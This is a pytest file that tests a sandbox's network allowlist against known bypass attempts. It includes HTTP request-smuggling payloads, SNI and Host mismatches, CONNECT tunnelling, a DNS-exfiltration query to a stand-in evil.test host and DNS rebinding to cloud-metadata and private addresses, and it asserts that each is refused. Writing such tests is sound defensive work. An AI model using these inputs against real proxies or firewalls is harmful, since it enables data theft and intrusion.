"""Ways around a policy that people have tried elsewhere. Each ends at its own rule, and the server out there saw nothing."""

import ssl

import anyio
import pytest

pytestmark = pytest.mark.anyio

TLS = """
import socket, ssl
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
s = socket.create_connection(({where!r}, 443), 10)
try:
    s = context.wrap_socket(s, server_hostname={sni!r})
    s.sendall(b"GET / HTTP/1.1\\r\\nHost: {sni}\\r\\nConnection: close\\r\\n\\r\\n")
    print(s.recv(12))
except OSError as exc:
    print("refused", exc.__class__.__name__)
"""
RAW = """
import socket
s = socket.create_connection(({where!r}, {port}), 10)
try:
    s.sendall({data!r})
    data = b""
    while more := s.recv(4096):
        data += more
    print(data.decode("latin-1"))
except OSError as exc:
    print("refused", exc.__class__.__name__)
"""


@pytest.fixture
async def listed(sandbox, internet):
    """Only good.test and cdn.test may be reached, both at `a`."""
    names = {"good.test": [internet.a], "cdn.test": [internet.a], "evil.test": [internet.b]}
    internet.names(names)
    await sandbox.allow(domains=("good.test", "cdn.test"))
    return sandbox


async def rules(sandbox, **about):
    return {one.rule for one in await sandbox.log() if all(getattr(one, key) == value for key, value in about.items())}


async def refused(sandbox, rule):
    """How often a connection to good.test was, by this rule: the log is that of all tests before, too."""
    found = [one for one in await sandbox.log() if (one.name, one.rule, one.allowed) == ("good.test", rule, False)]
    return sum(one.count for one in found)


async def test_tls_must_name_what_was_looked_up(listed, internet):
    assert (await listed.python(TLS.format(where="good.test", sni="good.test"))).stdout == "b'HTTP/1.1 200'\n"
    for sni in ("evil.test", "cdn.test", None):
        done = await listed.python(TLS.format(where="good.test", sni=sni))
        assert done.stdout.startswith("refused"), (sni, done)
    assert {"wrong_name", "no_name"} <= await rules(listed, name="good.test", allowed=False)
    assert [line for line in internet.seen if "tls" in line] == [f"tls {internet.a} good.test"]


async def test_the_right_name_at_another_address(listed, internet):
    done = await listed.python(TLS.format(where=internet.b, sni="good.test"))
    assert "ConnectionRefusedError" in done.stderr
    done = await listed.get("http://good.test/", "--resolve", f"good.test:80:{internet.b}")
    assert done == "curl 7"
    assert not [line for line in internet.seen if internet.b in line]


@pytest.mark.parametrize(
    ("said", "rule"),
    [
        (b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n", "wrong_name"),
        (b"GET http://evil.test/ HTTP/1.1\r\nHost: good.test\r\n\r\n", "wrong_name"),
        (b"GET / HTTP/1.1\r\nHost: good.test\r\nHost: evil.test\r\n\r\n", "not_tls_or_http"),
        (b"GET / HTTP/1.0\r\n\r\n", "no_name"),
        (b"CONNECT evil.test:443 HTTP/1.1\r\nHost: good.test\r\n\r\n", "connect"),
        (b"SSH-2.0-OpenSSH_9.2\r\n", "not_tls_or_http"),
        (b"\x16\x03\x01\x00\x05\x02\x00\x00\x01\x00", "not_tls_or_http"),
    ],
)
async def test_http_must_name_what_was_looked_up(listed, internet, said, rule):
    before = await refused(listed, rule)
    done = await listed.python(RAW.format(where="good.test", port=80, data=said))
    assert "200 OK" not in done.stdout
    assert "TimeoutError" not in done.stdout, "it was left waiting"
    assert await refused(listed, rule) == before + 1
    assert not [line for line in internet.seen if "http" in line or "tls" in line]


async def test_a_second_request_cannot_hide_behind_the_first(listed, internet):
    first = b"GET /one HTTP/1.1\r\nHost: good.test\r\n\r\n"
    for second in (
        b"GET /two HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        b"POST /two HTTP/1.1\r\nHost: good.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
        b"GET /three HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    ):
        await listed.python(RAW.format(where="good.test", port=80, data=first + second))
    assert not [line for line in internet.seen if "evil" in line or "/three" in line]
    assert [line for line in internet.seen if "/one" in line]


async def test_what_is_no_request_behind_the_first_is_refused_at_once(listed, internet):
    before = await refused(listed, "not_tls_or_http")
    said = b"GET /one HTTP/1.1\r\nHost: good.test\r\n\r\nSSH-2.0-OpenSSH_9.2\r\n"
    done = await listed.python(RAW.format(where="good.test", port=80, data=said))
    assert "TimeoutError" not in done.stdout, "it was left waiting"
    assert await refused(listed, "not_tls_or_http") == before + 1


async def test_an_encrypted_hello_is_refused(listed, internet):
    """Its outer name is allowed; the inner one nobody can see, so there must be none."""
    hello = client_hello("good.test")
    data = with_extension(hello, 0xFE0D, b"\0" * 40)
    await listed.python(RAW.format(where="good.test", port=443, data=data))
    assert "encrypted_hello" in await rules(listed, name="good.test", allowed=False)


async def test_names_are_only_asked_here_and_only_allowed_ones(listed, internet):
    """No other resolver, no DNS over TLS, no QUIC; and no record but addresses, so no keys for an encrypted hello."""
    ask = """
import socket, struct
def ask(name, kind, to="192.0.0.1", stream=False):
    words = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    q = struct.pack("!6H", 7, 256, 1, 0, 0, 0) + words + b"\\0" + struct.pack("!2H", kind, 1)
    s = socket.socket(2, 1 if stream else 2); s.settimeout(5)
    try:
        s.connect((to, 53))
        s.send(struct.pack("!H", len(q)) + q if stream else q)
        d = s.recv(4096)[2 if stream else 0:]
        return d[3] & 15, struct.unpack("!H", d[6:8])[0]
    except OSError as exc:
        return type(exc).__name__
"""
    questions = {
        "ask('good.test', 1)": (0, 1),
        "ask('good.test', 1, stream=True)": (0, 1),
        "ask('good.test', 28)": (0, 0),
        "ask('good.test', 65)": (0, 0),
        "ask('good.test', 16)": (0, 0),
        "ask('evil.test', 1)": (3, 0),
        "ask('c2VjcmV0.evil.test', 16)": (3, 0),
        "ask('x.good.test', 1)": (3, 0),
        f"ask('good.test', 1, {internet.a!r})": "OSError",
        f"ask('good.test', 1, {internet.a!r}, True)": "ConnectionRefusedError",
    }
    done = await listed.python(ask + f"print([{', '.join(questions)}])")
    got = eval(done.stdout)
    want = list(questions.values())
    assert got == want
    assert not [line for line in internet.seen if line.startswith("dns") and "good.test" not in line]
    for port, kind in ((853, 1), (443, 2), (123, 2)):
        probe = f"import socket; s = socket.socket(2, {kind}); s.settimeout(3); s.connect(({internet.a!r}, {port}))"
        probe += "; s.send(b'x'); s.recv(1)"
        assert (await listed.python(probe)).exit_code == 1
    assert not [line for line in internet.seen if line.startswith(("udp", "tcp"))]


async def test_a_cname_leads_nowhere_else(sandbox, internet):
    """It is followed out there, where only addresses count; the name at its end does not become allowed."""
    internet.names(
        {
            "alias.test": "target.test",
            "target.test": [internet.b],
            "inner.test": "private.test",
            "private.test": [internet.private],
        }
    )
    await sandbox.allow(domains=("alias.test", "inner.test"))
    assert (await sandbox.get("http://alias.test/")).startswith(f"GET / at {internet.b}")
    assert await sandbox.get("http://target.test/") == "curl 6"
    assert (await sandbox.get("http://inner.test/")).startswith("curl")
    assert not [line for line in internet.seen if internet.private in line]


async def test_rebinding(sandbox, internet):
    """A name that is allowed, and turns to addresses that never are: at once, or between look-up and connection."""
    bad = {"private": internet.private, "metadata": internet.metadata, "host": internet.host, "loop": "127.0.0.1"}
    internet.names({f"{word}.test": [address] for word, address in bad.items()} | {"flip.test": [internet.a]})
    await sandbox.allow(domains=("*.test",))
    for word in bad:
        assert (await sandbox.get(f"http://{word}.test/")).startswith("curl"), word
    assert {"private", "host"} <= await rules(sandbox, allowed=False)
    assert (await sandbox.get("http://flip.test/")).startswith("GET")
    internet.names({"flip.test": [internet.private]})
    await anyio.sleep(11)  # an answer is used again for ten seconds, checked each time
    assert (await sandbox.get("http://flip.test/")).startswith("curl")
    assert not [line for line in internet.seen if internet.private in line or internet.metadata in line]


async def test_a_range_opens_special_addresses_only_when_it_means_them(sandbox, internet):
    await sandbox.allow(cidrs=("0.0.0.0/0",))
    assert (await sandbox.get(f"http://{internet.a}/")).startswith("GET")
    for address in (internet.private, internet.metadata, internet.host):
        assert (await sandbox.get(f"http://{address}/")).startswith("curl"), address
    await sandbox.allow(cidrs=(f"{internet.metadata}/32", "10.0.0.0/8"))
    assert (await sandbox.get(f"http://{internet.metadata}/")).startswith("GET")
    assert (await sandbox.get(f"http://{internet.private}/")).startswith("GET")
    assert (await sandbox.get(f"http://{internet.host}/")).startswith("curl")


def client_hello(name):
    context = ssl.create_default_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    link = context.wrap_bio(incoming, outgoing, server_hostname=name)
    with pytest.raises(ssl.SSLWantReadError):
        link.do_handshake()
    return outgoing.read()


def with_extension(record, kind, content):
    """The same hello in one record, with one extension more at the end."""
    extra = kind.to_bytes(2) + len(content).to_bytes(2) + content
    body = bytearray(record[9:])
    at = 34
    at += 1 + body[at]
    at += 2 + int.from_bytes(body[at : at + 2])
    at += 1 + body[at]
    body[at : at + 2] = (int.from_bytes(body[at : at + 2]) + len(extra)).to_bytes(2)
    body += extra
    message = b"\x01" + len(body).to_bytes(3) + bytes(body)
    return b"\x16\x03\x01" + len(message).to_bytes(2) + message
